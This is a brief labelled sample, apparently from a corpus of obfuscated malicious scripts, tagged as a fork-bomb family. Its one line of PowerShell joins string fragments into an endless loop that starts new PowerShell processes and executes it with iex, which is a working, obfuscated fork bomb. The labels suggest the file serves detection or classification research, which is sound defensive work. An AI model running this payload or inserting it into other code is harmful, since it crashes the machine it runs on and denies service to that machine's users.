# description: Joins fragments into a Start-Process loop and runs it with iex.
# family: fork-bomb
# obfuscated: yes
iex (('for(;;){', 'Start-', 'Process ', 'powershell', '}') -join '')
